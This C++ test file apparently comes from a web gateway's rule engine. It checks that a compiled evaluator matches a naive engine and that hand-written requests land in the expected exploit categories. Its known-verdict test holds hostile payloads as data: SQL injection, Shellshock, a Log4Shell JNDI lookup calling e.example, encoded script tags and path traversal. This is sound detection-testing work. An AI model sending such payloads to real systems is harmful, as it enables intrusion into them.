// The compiled evaluator and the naive engine give identical verdicts (rule, action, exploit
// category, rate limiting, decision) on generated rule sets and requests (raw and normalised
// targets, rules matching either, header scanning on and off), on the fixture rule sets over the
// fixture traffic, and on hand-written requests whose verdicts are known.
#include <gtest/gtest.h>

#include <string>
#include <utility>
#include <vector>

#include "fixtures/rule_random.hpp"
#include "fixtures/rule_sets.hpp"
#include "fixtures/traffic.hpp"
#include "micro/core/rules/engine.hpp"
#include "micro/core/rules/loader.hpp"
#include "micro/peers/rules_naive.hpp"
#include "tests/random_cases.hpp"

namespace gatebench::rules {
namespace {

TEST(RuleDifferential, RandomRuleSetsAgreeWithNaive) {
  fixtures::Rng rng = fixtures::Rng(fixtures::kDefaultSeed).fork("test/rule_differential");
  constexpr int kRuleSets = testing::random_cases(500);
  constexpr int kRequestsPerSet = 250;  // 125,000 requests in all (15,500 under sanitizers)
  std::size_t matched = 0, limited = 0, exploits = 0, scanners = 0, raw_targets = 0;
  for (int s = 0; s < kRuleSets; ++s) {
    const std::string json = fixtures::random_rule_set_json(rng);
    const RuleSet set = load_rule_set(json, "random");
    CompiledRuleSet compiled(set);
    RuleEvaluator evaluator(compiled);
    peers::NaiveRuleEngine naive(set);
    std::vector<fixtures::OwnedRequest> owned;
    for (int i = 0; i < kRequestsPerSet; ++i) owned.push_back(fixtures::random_rule_request(rng));
    const fixtures::Traffic traffic(std::move(owned));
    for (std::size_t i = 0; i < traffic.size(); ++i) {
      const std::uint64_t now = i * 200'000;  // 5,000 requests/s over 8 client addresses
      const Verdict got = evaluator.evaluate(traffic.view(i), now);
      const Verdict want = naive.evaluate(traffic.view(i), now);
      ASSERT_EQ(got, want) << "rule set " << s << " request " << i << "\n"
                           << json << "\npath " << traffic.request(i).path << " query "
                           << traffic.request(i).query;
      matched += got.rule >= 0;
      limited += got.rate_limited;
      exploits += got.exploit != ExploitCategory::kNone;
      scanners += got.exploit == ExploitCategory::kScannerAgent;  // found in a header only
      raw_targets += !traffic.view(i).raw_path.empty() && got.rule >= 0;
    }
  }
  // The generator must exercise every outcome, or agreement says little (the floors scale with
  // the case count).
  const std::size_t part = testing::kSanitizedCaseDivisor;
  EXPECT_GT(matched, 20000u / part);
  EXPECT_GT(limited, 1000u / part);
  EXPECT_GT(exploits, 1000u / part);
  EXPECT_GT(scanners, 300u / part);
  EXPECT_GT(raw_targets, 2000u / part);
}

TEST(RuleDifferential, FixtureRuleSetsOnFixtureTraffic) {
  for (std::string_view traffic_kind : {"clean", "post10", "mix"}) {
    const fixtures::Traffic traffic = fixtures::generate_traffic(traffic_kind, 3000);
    for (std::string_view name : {"none", "protected", "vpatch100", "protected+headers"}) {
      // The protected set as the gateway runs it on a host with rules: headers scanned too.
      const bool headers = name == "protected+headers";
      RuleSet set = load_rule_set(fixtures::rule_set_json(headers ? "protected" : name), name);
      set.exploit_headers = headers;
      CompiledRuleSet compiled(set);
      RuleEvaluator evaluator(compiled);
      peers::NaiveRuleEngine naive(set);
      for (std::size_t i = 0; i < traffic.size(); ++i) {
        const Verdict got = evaluator.evaluate(traffic.view(i), i * 1000);
        ASSERT_EQ(got, naive.evaluate(traffic.view(i), i * 1000))
            << name << "/" << traffic_kind << " " << i;
        // Fixture traffic never trips the fixture rules or the rate limit; only exploits block.
        EXPECT_EQ(got.rule, -1) << name << "/" << traffic_kind << " " << i;
        EXPECT_FALSE(got.rate_limited);
      }
    }
  }
}

// Where each engine must look: raw or normalised target and body, and which headers.
TEST(RuleDifferential, RawMatchesAndHeaderScanningGiveKnownVerdicts) {
  const RuleSet set = load_rule_set(R"({"exploit": {"mode": "block", "headers": true}, "rules": [
      {"id": "raw-encoded", "action": "block",
       "when": [{"field": "path", "op": "contains", "value": "%61dmin", "match": "raw"}]},
      {"id": "normalised-admin", "action": "log",
       "when": [{"field": "path", "op": "prefix", "value": "/admin"}]},
      {"id": "raw-query", "action": "challenge",
       "when": [{"field": "query", "op": "regex", "value": "%3[dD]", "match": "raw"}]},
      {"id": "raw-body", "action": "block",
       "when": [{"field": "body", "op": "equals", "value": "name=%62ob", "match": "raw"}]}]})",
                                    "known");
  CompiledRuleSet compiled(set);
  RuleEvaluator evaluator(compiled);
  peers::NaiveRuleEngine naive(set);
  struct Case {
    fixtures::OwnedRequest request;
    std::int32_t rule;
    ExploitCategory exploit;
  };
  auto request = [](std::string raw_path, std::string path,
                    std::vector<std::pair<std::string, std::string>> headers = {}) {
    fixtures::OwnedRequest r;
    r.method = "GET";
    r.scheme = "https";
    r.host = "a.test";
    r.raw_path = std::move(raw_path);
    r.path = std::move(path);
    r.headers = std::move(headers);
    return r;
  };
  std::vector<Case> cases;
  cases.push_back({request("/%61dmin", "/admin"), 0, ExploitCategory::kNone});
  cases.push_back({request("", "/admin"), 1, ExploitCategory::kNone});  // nothing normalised
  // The log rule lets exploit scanning run, which reads the raw path and sees its "../".
  cases.push_back({request("/x/../admin", "/admin"), 1, ExploitCategory::kPathTraversal});
  fixtures::OwnedRequest query = request("", "/");
  query.raw_query = "a%3Db";
  query.query = "a=b";
  cases.push_back({query, 2, ExploitCategory::kNone});
  fixtures::OwnedRequest body = request("", "/form");
  body.raw_body = "name=%62ob";
  body.body = "name=bob";
  cases.push_back({body, 3, ExploitCategory::kNone});
  // Headers: the first that matches names the category; Host and Content-Length are skipped,
  // the Referer's own host is no remote include, a cookie's name and value are apart.
  cases.push_back({request("", "/", {{"Host", "a';drop table x--"}, {"User-Agent", "sqlmap/1.7"}}),
                   -1, ExploitCategory::kScannerAgent});
  cases.push_back(
      {request("", "/", {{"Content-Length", "() { :; }"}}), -1, ExploitCategory::kNone});
  cases.push_back(
      {request("", "/", {{"Referer", "http://10.0.0.1/"}}), -1, ExploitCategory::kNone});
  cases.push_back({request("", "/", {{"Referer", "http://a.example/?q=%3Cscript%3E"}}), -1,
                   ExploitCategory::kXss});
  cases.push_back({request("", "/", {{"Cookie", "a=1; id=5"}}), -1, ExploitCategory::kNone});
  cases.push_back({request("", "/", {{"cookie", "a=1;  x=() { :; }; echo"}}), -1,
                   ExploitCategory::kShellshock});
  cases.push_back({request("", "/", {{"X-Api", "%24%7Bjndi:ldap://e.example/a%7D"}}), -1,
                   ExploitCategory::kLog4Shell});
  std::vector<fixtures::OwnedRequest> owned;
  for (const Case& c : cases) owned.push_back(c.request);
  const fixtures::Traffic traffic(std::move(owned));
  for (std::size_t i = 0; i < cases.size(); ++i) {
    const Verdict got = evaluator.evaluate(traffic.view(i), i * 1000);
    EXPECT_EQ(got, naive.evaluate(traffic.view(i), i * 1000)) << i;
    EXPECT_EQ(got.rule, cases[i].rule) << i;
    EXPECT_EQ(got.exploit, cases[i].exploit) << i << " " << to_string(got.exploit);
  }
}

}  // namespace
}  // namespace gatebench::rules
